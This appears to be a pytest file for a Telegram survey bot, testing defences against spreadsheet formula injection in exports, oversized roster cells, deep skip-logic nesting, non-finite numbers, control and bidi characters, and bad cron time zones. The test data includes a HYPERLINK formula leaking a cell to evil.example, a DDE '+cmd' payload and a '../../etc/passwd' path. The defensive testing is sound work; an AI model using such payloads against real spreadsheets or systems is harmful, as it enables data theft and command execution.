"""Hardening found on the way (issue 20, point 7), each with the bad input it stops.

Spreadsheet formulas in every export, unit codes that would break a poster, oversized roster
cells, skip-logic nesting and non-finite numbers, control and bidi characters in typed
answers, and /jadwal's limits. The same inputs through the bot: tests/test_e2e_hardening.py.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime, timedelta
from importlib import resources
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import storage.db
import storage.waves
from bot.cli import main
from scoring.exports import ExportOptions
from services.actions import Action, ActionStatus, export_matrix, read_matrix
from services.admin import import_units_csv, open_wave
from services.admin.survey import (
    MAX_FIELD_LENGTH,
    InvitationRow,
    RosterError,
    invitations_csv,
    parse_roster,
)
from services.pushes.cron import ZoneError, parse_cron, parse_zone, shortest_gap
from services.reports import ExportFormat, export_wave
from services.respondent.answers import Problem, validate_typed
from services.untrusted import (
    clean_typed,
    defuse_frame,
    defuse_xlsx,
    restore_cell,
    spreadsheet_cell,
)
from surveys import ExpressionError, Group, Question, QuestionType, Text, bundled_questionnaires
from surveys.constraints import parse_constraint
from surveys.expressions import MAX_DEPTH, parse_expression
from tests.comment_data import add_suggestions

NOW = datetime(2026, 3, 2, 3, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
HOSTILE = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"]


# -- spreadsheet formulas --------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_stays_text(value: str) -> None:
    safe = spreadsheet_cell(value)
    assert safe == "'" + value
    assert restore_cell(safe) == value


@pytest.mark.parametrize("value", ["Antrean panjang", "'kutipan", "1-2", "", "a=b", "62812"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value
    assert restore_cell(value) == value


def test_frames_and_workbooks_are_defused() -> None:
    frame = pd.DataFrame({"text": [FORMULA, "ok", None], "n": [-1, 2, 3]})
    safe = defuse_frame(frame)
    assert safe["text"].tolist()[:2] == ["'" + FORMULA, "ok"]
    assert pd.isna(safe["text"].iloc[2])
    assert safe["n"].tolist() == [-1, 2, 3]  # numbers stay numbers
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([FORMULA, "=1+1", 5])
    assert defuse_xlsx(book) == 2
    assert [c.data_type for c in sheet[1]] == ["s", "s", "n"]


@pytest.fixture(scope="module")
def closed_wave(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed wave where six service users of DPMPTSP typed formulas as suggestions."""
    tmp = tmp_path_factory.mktemp("hostile")
    url = f"sqlite+aiosqlite:///{tmp / 'h.db'}"

    async def prepare() -> None:
        async with storage.db.Database(url) as db:
            units = resources.files("sandbox.data").joinpath("mojokerto-units.csv")
            with resources.as_file(units) as path:
                await import_units_csv(db.engine, path)
            wave = await open_wave(db.engine, "2026-S1", NOW)
            await add_suggestions(db.engine, wave, "DPMPTSP", HOSTILE, NOW)
            assert await storage.waves.close_wave(db.engine, wave.id, NOW)

    asyncio.run(prepare())
    env = tmp / ".env"
    env.write_text(f"DATABASE_URL={url}\nSPIBOT_SECRET={'s' * 24}\n", encoding="utf-8")
    return env


def _url(env: Path) -> str:
    return env.read_text(encoding="utf-8").split("\n")[0].split("=", 1)[1]


async def test_every_export_format_keeps_formulas_as_text(
    closed_wave: Path, tmp_path: Path
) -> None:
    options = ExportOptions(k=5, free_text=True)
    async with storage.db.Database(_url(closed_wave)) as db:
        for fmt in (ExportFormat.CSV, ExportFormat.XLSX, ExportFormat.STATA):
            await export_wave(db.engine, "2026-S1", tmp_path / fmt, fmt, options, today=NOW.date())
    with (tmp_path / "csv" / "data.csv").open(encoding="utf-8", newline="") as source:
        suggestions = [row["saran"] for row in csv.DictReader(source)]
    assert sorted(suggestions) == sorted("'" + v for v in HOSTILE)
    book = openpyxl.load_workbook(tmp_path / "xlsx" / "export.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]  # kept as typed, as a string cell
    # Stata runs no formulas: the .dta keeps the text as typed; its codebook CSVs are defused.
    dta = pd.read_stata(tmp_path / "stata" / "data.dta")
    assert FORMULA in set(dta["saran"])


def test_the_comments_listing_shows_formulas_as_text(
    closed_wave: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--env-file", str(closed_wave), "comments"]) == 0
    listing = capsys.readouterr().out
    assert f"    '{FORMULA}" in listing
    assert "\t" not in listing
    assert "\r" not in listing


def _action(what: str, note: str) -> Action:
    return Action(
        id=1,
        unit_id=1,
        unit_code="DINKES",
        unit_name="Dinas Kesehatan",
        dimension=None,
        recommendation="",
        what=what,
        who="@kabid",
        due_on=date(2026, 4, 30),
        status=ActionStatus.PLANNED,
        note=note,
        document_file_id=None,
        version=1,
        created_at=NOW,
        updated_at=NOW,
    )


def test_the_actions_export_keeps_formulas_as_text(tmp_path: Path) -> None:
    action = _action(FORMULA, "-1 hari")
    export_matrix([action], tmp_path / "m.csv")
    with (tmp_path / "m.csv").open(encoding="utf-8", newline="") as source:
        rows = list(csv.reader(source))
    assert rows[1][5] == "'" + FORMULA
    assert rows[1][6] == "'@kabid"
    assert rows[1][9] == "'-1 hari"
    # Exported, then imported again: the same texts, not the defused ones.
    (back,) = read_matrix(tmp_path / "m.csv")
    assert (back.action.what, back.action.who, back.action.note) == (FORMULA, "@kabid", "-1 hari")
    export_matrix([action], tmp_path / "m.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    assert sheet is not None
    assert sheet["F2"].data_type == "s"
    assert sheet["F2"].value == FORMULA
    (back,) = read_matrix(tmp_path / "m.xlsx")
    assert back.action.what == FORMULA


def test_the_invitation_csv_keeps_roster_cells_as_text() -> None:
    rows = [InvitationRow({"unit": "DINKES", "nama": FORMULA, "hp": "+628123"}, "https://t.me/x")]
    text, count = invitations_csv(rows)
    assert count == 1
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["nama"] == "'" + FORMULA
    assert row["hp"] == "'+628123"
    assert row["link"] == "https://t.me/x"


# -- unit codes and rosters -----------------------------------------------------------------


def test_units_import_names_every_code_a_poster_link_cannot_carry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    units = tmp_path / "units.csv"
    units.write_text(
        "code,name,kind,parent,serves_public\n"
        "DINKES,Dinas Kesehatan,opd,,yes\n"
        "dinsos,Dinas Sosial,opd,,yes\n"
        "DIN KES,Dinas Dua,opd,,yes\n"
        f"{'X' * 41},Terlalu panjang,opd,,no\n"
        "PUSK_1,Puskesmas,service,dinkes,yes\n"
        "RSUD-SOEKANDAR,RSUD,service,DINKES,yes\n",
        encoding="utf-8",
    )
    env = tmp_path / ".env"
    env.write_text(
        f"DATABASE_URL=sqlite+aiosqlite:///{tmp_path / 'u.db'}\nSPIBOT_SECRET={'s' * 24}\n",
        encoding="utf-8",
    )
    assert main(["--env-file", str(env), "units", "import", str(units)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1
    for named in (
        "line 3: code 'dinsos'",
        "line 4: code 'DIN KES'",
        f"line 5: code '{'X' * 41}'",
        "line 6: code 'PUSK_1'",
        "line 6: parent 'dinkes'",
    ):
        assert named in err
    assert "line 2" not in err
    assert "line 7" not in err
    assert main(["--env-file", str(env), "units", "list"]) in (0, 2)
    assert "DINKES" not in capsys.readouterr().out  # all or nothing: nothing was imported


def test_an_oversized_roster_cell_is_a_roster_error_naming_the_lines() -> None:
    units = {"DINKES": object()}
    roster = (
        "nama,unit\n"
        "Sari,DINKES\n"
        f"{'x' * (MAX_FIELD_LENGTH + 1)},DINKES\n"
        "Budi,DINKES\n"
        f"Tono,{'D' * 5000}\n"
    ).encode()
    with pytest.raises(RosterError) as caught:
        parse_roster(roster, units, "pegawai.csv")  # type: ignore[arg-type]
    assert [(p.line, p.kind) for p in caught.value.problems] == [
        (3, "field_too_long"),
        (5, "field_too_long"),
    ]
    assert "line 3: a cell longer than 1000 characters" in str(caught.value)
    # Past the csv module's own limit (128 KiB) it stops reading: still a RosterError.
    huge = ("nama,unit\nSari,DINKES\n" + "y" * 200_000 + ",DINKES\n").encode()
    with pytest.raises(RosterError) as caught:
        parse_roster(huge, units, "pegawai.csv")  # type: ignore[arg-type]
    assert [(p.line, p.kind) for p in caught.value.problems] == [(3, "field_too_long")]


# -- skip logic -----------------------------------------------------------------------------


def test_skip_logic_nesting_has_a_limit() -> None:
    fits = "(" * MAX_DEPTH + "${a} = 'x'" + ")" * MAX_DEPTH
    assert str(parse_expression(fits)) == "${a} = 'x'"
    assert str(parse_expression("not(" * MAX_DEPTH + "${a} = 'x'" + ")" * MAX_DEPTH))
    for deep in (
        "(" * (MAX_DEPTH + 1) + "${a} = 'x'" + ")" * (MAX_DEPTH + 1),
        "not(" * 5000 + "${a} = 'x'" + ")" * 5000,
    ):
        with pytest.raises(ExpressionError, match=f"nested more than {MAX_DEPTH} levels deep"):
            parse_expression(deep)


@pytest.mark.parametrize(
    "text",
    ["${a} > " + "9" * 400, "${a} < -" + "9" * 400, "${a} > inf", "${a} = nan", "${a} > 1e999"],
)
def test_skip_logic_refuses_non_finite_numbers(text: str) -> None:
    with pytest.raises(ExpressionError):
        parse_expression(text)


def test_constraints_refuse_non_finite_numbers() -> None:
    with pytest.raises(ExpressionError, match="too large"):
        parse_constraint(". <= " + "9" * 400)
    assert parse_constraint(". >= 1 and . <= 365").max_value == 365


@pytest.mark.parametrize(
    ("show_if", "message"),
    [
        ('"' + "(" * 300 + "${kunjungan} > 1" + ")" * 300 + '"', "nested more than 20 levels"),
        ('"${kunjungan} > ' + "9" * 400 + '"', "is too large"),
        ('"${kunjungan} > inf"', "found 'inf'"),
    ],
)
def test_survey_validate_explains_a_hostile_expression_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], show_if: str, message: str
) -> None:
    source = bundled_questionnaires()[Group.EXTERNAL].source
    hostile = source.replace('show_if: {question: ti_diminta, in: ["yes"]}', f"show_if: {show_if}")
    assert hostile != source
    path = tmp_path / "q.yaml"
    path.write_text(hostile, encoding="utf-8")
    assert main(["survey", "validate", str(path)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1
    assert message in err


def test_number_bounds_must_be_finite(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = bundled_questionnaires()[Group.EXTERNAL].source
    assert "min: 1" in source
    path = tmp_path / "q.yaml"
    path.write_text(source.replace("min: 1", "min: .nan", 1), encoding="utf-8")
    assert main(["survey", "validate", str(path)]) == 2
    assert "min must be a number, got nan" in capsys.readouterr().err


# -- typed answers --------------------------------------------------------------------------


def test_control_and_bidi_characters_are_dropped() -> None:
    typed = "Petugas\u202e 3\x07 minta\u200f Rp50rb\u2066\x1b[31m\x85\u061c\ttolong\r\nterima kasih"
    assert clean_typed(typed) == "Petugas 3 minta Rp50rb[31m tolong\nterima kasih"
    question = Question("saran", QuestionType.TEXT, Text("Saran?", "Ideas?"), required=False)
    assert validate_typed(question, typed, 1000) == (
        "Petugas 3 minta Rp50rb[31m tolong\nterima kasih"
    )
    assert validate_typed(question, "\u202e\u2066\x00 ", 1000) == Problem("text_empty", {})
    number = Question("umur", QuestionType.NUMBER, Text("Umur?", "Age?"), required=False)
    assert validate_typed(number, "4\u200e2", 1000) == "42"


# -- /jadwal --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cron", "gap"),
    [
        ("* * * * *", timedelta(minutes=1)),
        ("*/5 * * * *", timedelta(minutes=5)),
        ("0,30 7 * * *", timedelta(minutes=30)),
        ("0 7,8 * * 1", timedelta(hours=1)),
        ("0 7 * * *", timedelta(days=1)),
        ("0 7 * * 1", timedelta(days=7)),
        ("0 0,23 1,2 * *", timedelta(hours=1)),
    ],
)
def test_the_shortest_gap_of_a_crontab(cron: str, gap: timedelta) -> None:
    assert shortest_gap(parse_cron(cron, "Asia/Jakarta"), NOW) == gap


def test_an_unknown_time_zone_is_its_own_error() -> None:
    with pytest.raises(ZoneError) as caught:
        parse_zone("Mars/Olympus")
    assert caught.value.zone == "Mars/Olympus"
    with pytest.raises(ZoneError):
        parse_cron("0 7 * * *", "../../etc/passwd")
